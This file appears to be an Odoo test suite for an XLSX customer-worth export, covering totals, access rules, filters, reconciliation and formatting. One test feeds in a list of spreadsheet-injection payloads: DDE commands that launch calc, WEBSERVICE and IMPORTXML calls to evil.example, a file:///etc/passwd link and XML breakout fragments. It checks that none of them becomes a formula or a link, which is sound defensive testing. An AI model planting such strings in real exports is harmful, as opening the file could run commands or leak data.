from datetime import timedelta

from odoo.exceptions import AccessError, UserError, ValidationError
from odoo.tests import tagged

from ..report import customer_worth_source, xlsx_book
from .workbook_common import MAIN, WorkbookCommon

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "@cmd|' /C calc'!A0",
    '=IMPORTXML("http://evil.example","//a")',
    '=IMPORTDATA("http://evil.example")',
    '=WEBSERVICE("http://evil.example")',
    "='[http://evil.example/x.xlsx]S'!A1",
    "{=1+1}",
    "http://evil.example",
    "https://evil.example/?a=1",
    "mailto:a@evil.example",
    "internal:Sheet!A1",
    "external:c:\\evil.xlsx",
    "ftp://evil.example",
    "file:///etc/passwd",
    "%0A=1+1",
    '<r></r></is></c><c r="A1"><f>1+1</f><v>2</v></c><c t="inlineStr"><is><r></r>',
    "</t></is></c><c><f>1+1</f></c>",
    "_x003D_1+1",
    "1e308",
    "00123",
]


@tagged("post_install", "-at_install")
class TestCustomerWorthWorkbook(WorkbookCommon):
    # ------------------------------------------------------------------ rows and totals
    def test_rows_are_the_table_and_totals_are_the_sum_of_rows(self):
        data = self.build(self.export_of(self.analyst))
        rows, totals = self.rows(data), self.totals(data)
        values = self.values.search([("company_id", "=", self.company.id)])
        self.assertEqual(self.built, len(values))
        self.assertEqual(len(rows), len(values))
        self.assertEqual(totals["Customer"], len(rows))
        for label, name in (
            ("Revenue", "revenue_period"),
            ("Service Cost", "service_cost_period"),
            ("Worth", "value_period"),
            ("Worth, All Time", "value_total"),
            ("Purchases", "purchase_count"),
        ):
            self.assertAlmostEqual(totals[label], sum(row[label] for row in rows.values()), 2)
            self.assertAlmostEqual(totals[label], sum(values.mapped(name)), 2, label)
        mine = rows["Mine"]
        self.assertEqual((mine["City"], mine["Reference"], mine["Worth"]), ("Haifa", "M-1", 750))
        self.assertEqual(mine["Salesperson"], self.seller.name)
        self.assertEqual(mine["Account Manager"], self.seller.name)
        self.assertEqual(mine["First Purchase"].date(), self.today)
        self.assertEqual(mine["Service Cost of Revenue"], 0.25)
        self.assertEqual(mine["Worth per Purchase, All Time"], 750)

    def test_formulas_are_live_and_show_values_before_they_are_calculated(self):
        data = self.build(self.export_of(self.analyst))
        customers, summary, about = self.sheets(data, values=False)
        self.assertEqual(customers["A1"].value, "=SUBTOTAL(103,A3:A4)")
        self.assertEqual(customers["K1"].value, "=SUBTOTAL(109,K3:K4)")
        self.assertEqual(customers["N3"].value, '=IFERROR(L3/K3,"")')
        self.assertEqual(summary["B2"].value, "=COUNTIFS('Customers'!$H$3:$H$4,$A2)")
        formulas = [cell.value for row in about for cell in row if str(cell.value)[:1] == "="]
        self.assertIn("=SUM('Customers'!$K$3:$K$4)", formulas)
        self.assertEqual((customers.freeze_panes, customers.auto_filter.ref), ("B3", "A2:W4"))
        shown = list(self.sheets(data)[1].iter_rows(values_only=True))
        self.assertEqual(shown[-1][:2], ("Total", 2))
        self.assertAlmostEqual(sum(row[4] for row in shown[1:-1]), shown[-1][4], 2)
        self.assertIn("xl/charts/chart1.xml", self.parts(data))

    def test_batches_give_every_row_once(self):
        self.patch(customer_worth_source, "BATCH", 1)
        self.assertEqual(
            set(self.rows(self.build(self.export_of(self.analyst)))), {"Mine", "Theirs"}
        )

    def test_more_customers_than_rows_are_refused(self):
        self.patch(customer_worth_source, "ROW_LIMIT", 3)
        with self.assertRaises(UserError):
            self.build(self.export_of(self.analyst))

    def test_no_customer_at_all_gives_a_workbook(self):
        data = self.build(self.export_of(self.analyst, tier_d=True))
        self.assertEqual(self.rows(data), {})
        self.assertEqual(self.totals(data)["Revenue"], 0)

    # ------------------------------------------------------------------ who sees what
    def test_rows_obey_record_rules_and_nothing_hidden_leaks_through_totals(self):
        data = self.build(self.export_of(self.seller))
        self.assertEqual(set(self.rows(data)), {"Mine"})
        self.assertEqual(self.totals(data)["Revenue"], 1000)
        about = self.about(data)
        self.assertEqual(about["Revenue in the ledger, customers that you see"], 1000)
        self.assertEqual(about["Difference"], 0)
        self.assertNotIn("Revenue in the ledger, all customers", about)
        self.assertNotIn("of which left out by record rules", about)
        numbers = {cell for sheet in self.sheets(data) for row in sheet.values for cell in row}
        self.assertFalse(numbers & {400.25, 1400.25, "Theirs"})

    def test_rules_on_contacts_hold_too_and_are_explained(self):
        self.env["ir.rule"].create(
            {
                "name": "No Jaffa",
                "model_id": self.env.ref("base.model_res_partner").id,
                "domain_force": "['|', ('city', '=', False), ('city', '!=', 'Jaffa')]",
            }
        )
        data = self.build(self.export_of(self.analyst))
        self.assertEqual(set(self.rows(data)), {"Mine"})
        about = self.about(data)
        self.assertEqual(about["Left out by record rules"], 1)
        self.assertEqual(about["of which left out by record rules"], 400.25)
        self.assertEqual(about["Difference"], 0)

    def test_without_the_lifecycle_app_there_is_nothing_to_read(self):
        outsider = self.persona("worth_outsider", None, "base.group_allow_export")
        with self.assertRaises(AccessError):
            self.export_of(outsider)
        report = self.env["crm.customer.worth.report"].with_user(outsider)
        export = self.export_of(self.analyst).with_user(outsider)
        with self.assertRaises(AccessError):
            report.env["crm.customer.worth.source"]._stage(export.sudo().sudo(False))

    def test_the_other_company_is_refused(self):
        other = self.other_company("Other worth company")
        with self.assertRaises(AccessError):
            self.export_of(self.analyst, company_id=other.id)

    # ------------------------------------------------------------------ filters
    def test_filters_leave_out_and_say_so(self):
        tag = self.env["res.partner.category"].create({"name": "=Gold"})
        self.mine.category_id = tag
        data = self.build(self.export_of(self.analyst, category_ids=tag.ids, reason="Audit"))
        self.assertEqual(set(self.rows(data)), {"Mine"})
        about = self.about(data)
        self.assertEqual((about["Tags"], about["Reason"]), ("=Gold", "Audit"))
        self.assertEqual(about["Left out by the filters"], 1)
        self.assertEqual(about["Revenue in the ledger, all customers"], 1400.25)
        self.assertEqual(about["of which left out by the filters"], 400.25)
        self.assertEqual(about["Revenue in this workbook"], 1000)
        self.assertEqual(about["Difference"], 0)

    def test_each_filter(self):
        team = self.env["crm.team"].create({"name": "Worth team"})
        self.env["crm.team.member"].create({"crm_team_id": team.id, "user_id": self.seller.id})
        country = self.env.ref("base.il")
        self.mine.country_id = country
        tier = self.value_of(self.mine).tier
        for vals in (
            {"salesperson_ids": self.seller.ids},
            {"team_ids": team.ids},
            {"country_ids": country.ids},
            {f"tier_{tier}": True},
            {"phase_enhancement": True, "salesperson_ids": self.seller.ids},
        ):
            with self.subTest(vals=vals):
                rows = self.rows(self.build(self.export_of(self.analyst, **vals)))
                self.assertEqual(set(rows), {"Mine"})
        late = self.today - timedelta(days=90)
        self.invoice(self.theirs, 10, late, invoice_date_due=late, invoice_payment_term_id=False)
        self.refresh(self.theirs)
        rows = self.rows(self.build(self.export_of(self.analyst, only_overdue=True)))
        self.assertEqual(set(rows), {"Theirs"})

    # ------------------------------------------------------------------ the ledger
    def test_changes_after_the_computation_are_a_difference_with_its_reason(self):
        self.invoice(self.mine, 0.5)
        about = self.about(self.build(self.export_of(self.seller)))
        self.assertEqual(about["Difference"], -0.5)
        self.assertIn("after the figures were computed", about["Where it comes from"])

    def test_credit_notes_and_taxes_reconcile(self):
        self.invoice(self.mine, 100.1, move_type="out_refund")
        taxed = self.invoice(self.mine, 33.33, post=False)
        taxed.invoice_line_ids.tax_ids = self.company_data["default_tax_sale"]
        taxed.action_post()
        self.refresh(self.mine)
        about = self.about(self.build(self.export_of(self.analyst)))
        self.assertEqual(about["Difference"], 0)
        self.assertAlmostEqual(about["Revenue in this workbook"], 1333.48, 2)

    def test_a_past_day_is_as_its_month_end_would_be(self):
        day = self.today - timedelta(days=400)
        old = self.customer("Old", user_id=self.seller.id)
        self.invoice(old, 70.0, day)
        self.invoice(self.mine, 30.0, day - timedelta(days=1))
        self.invoice(self.theirs, 5000.0, day + timedelta(days=1))
        self.refresh(old, self.mine, self.theirs)
        data = self.build(self.export_of(self.analyst, as_of=day))
        rows = self.rows(data)
        snapshots = self.env["crm.customer.value.snapshot"]
        snapshots._close(self.company, day)
        closed = snapshots.search([("company_id", "=", self.company.id), ("date", "=", day)])
        wanted = {
            row.partner_id.name: (row.value_period, row.tier.upper(), row.score) for row in closed
        }
        found = {name: (row["Worth"], row["Tier"], row["Score"]) for name, row in rows.items()}
        self.assertEqual(found, wanted)
        self.assertEqual(
            {name: row["Worth"] for name, row in rows.items()}, {"Old": 70, "Mine": 30}
        )
        self.assertIsNone(rows["Old"]["Overdue"])
        about = self.about(data)
        self.assertEqual((about["Revenue in this workbook"], about["Difference"]), (100, 0))

    def test_days_that_make_no_sense(self):
        tomorrow, past = self.today + timedelta(days=1), self.today - timedelta(days=1)
        for vals in (
            {"as_of": tomorrow},
            {"as_of": "1066-10-14"},
            {"as_of": past, "only_overdue": True},
        ):
            with self.assertRaises(ValidationError):
                self.export_of(self.analyst, **vals)

    # ------------------------------------------------------------------ looks
    def test_a_currency_without_decimals(self):
        currency = self.company.currency_id
        currency.write({"symbol": '"K"', "position": "before"})
        # The ORM refuses this of a currency in use.
        self.env.cr.execute("UPDATE res_currency SET rounding = 1, decimal_places = 0")
        currency.invalidate_model()
        customers = self.sheets(self.build(self.export_of(self.analyst)))[0]
        self.assertEqual(customers["K3"].number_format, '"K"#,##0;[Red]-"K"#,##0')
        money = xlsx_book.Money("₪", 2)
        self.assertEqual(money.number_format, '#,##0.00 "₪";[Red]-#,##0.00 "₪"')

    def test_hebrew_is_right_to_left_on_every_sheet(self):
        self.env["res.lang"]._activate_lang("he_IL")
        self.analyst.lang = "he_IL"
        for lang, wanted in (("he_IL", "1"), ("en_US", None)):
            export = self.export_of(self.analyst).with_context(lang=lang)
            parts = self.parts(self.build(export))
            views = [tree.find(f".//{MAIN}sheetView") for tree in self._sheet_parts(parts)]
            self.assertEqual([view.get("rightToLeft") for view in views], [wanted] * 3)

    @staticmethod
    def _sheet_parts(parts):
        return [tree for name, tree in parts.items() if "worksheets/sheet" in name]

    # ------------------------------------------------------------------ hostile text
    def test_customers_data_never_becomes_a_formula_or_a_link(self):
        tag = self.env["res.partner.category"].create({"name": "harmless"})
        partners = self.env["res.partner"]
        for number in range(len(PAYLOADS)):
            partners |= self.customer(f"c{number}", category_id=[(6, 0, tag.ids)])
        for partner in partners:
            self.invoice(partner, 1)
        self.refresh(*partners)
        export = self.export_of(self.analyst, category_ids=tag.ids)
        harmless = self.formulas(self.build(export))
        for partner, text in zip(partners, PAYLOADS, strict=True):
            partner.write({"name": text, "city": text, "ref": text})
        tag.name, self.company.name, self.analyst.name = PAYLOADS[0], PAYLOADS[7], PAYLOADS[24]
        export.reason = PAYLOADS[24]
        data = self.build(export)
        self.assertEqual(self.formulas(data), harmless)
        parts = self.parts(data)
        self.assertFalse([name for name in parts if "external" in name.lower()])
        self.assertFalse([t for p in parts.values() for t in p.iter(f"{MAIN}hyperlink")])
        relations = [
            element for name, tree in parts.items() if name.endswith(".rels") for element in tree
        ]
        self.assertFalse([element for element in relations if element.get("TargetMode")])
        kept = {row["City"] for row in self.rows(data).values()}
        self.assertTrue({"=1+1", "@SUM(1,1)", PAYLOADS[7], PAYLOADS[13], "00123"} <= kept)

    def test_text_that_a_cell_cannot_hold(self):
        texts = {"city": "😀" * 20000, "ref": "a\x01\x0b\x7f\u0085\uffffb\r\nc"}
        self.mine.write(texts)
        row = self.rows(self.build(self.export_of(self.seller)))["Mine"]
        self.assertEqual(row["City"], "😀" * 16383)
        self.assertEqual(row["Reference"], "ab c")

    def test_clean(self):
        self.assertEqual(xlsx_book.clean("plain"), "plain")
        self.assertEqual(len(xlsx_book.clean("x" * 40000)), xlsx_book.CELL_LIMIT)
        for length in (1, 32_758, 32_759, 32_760, 32_767, 40_000):
            rich = xlsx_book.clean("<r>" + "x" * length + "</r>")
            self.assertLessEqual(len(rich), xlsx_book.CELL_LIMIT)
            self.assertFalse(rich.startswith("<r>") and rich.endswith("</r>"), length)

    def test_sheet_names(self):
        self.assertEqual(xlsx_book.sheet_name("a/b:[c]*?\\'"), "a b  c")
        self.assertEqual(xlsx_book.sheet_name("Customers", ("CUSTOMERS",)), "Customers 2")
        self.assertEqual(len(xlsx_book.sheet_name("x" * 50)), 31)
        self.assertEqual(xlsx_book.sheet_name("''"), "-")
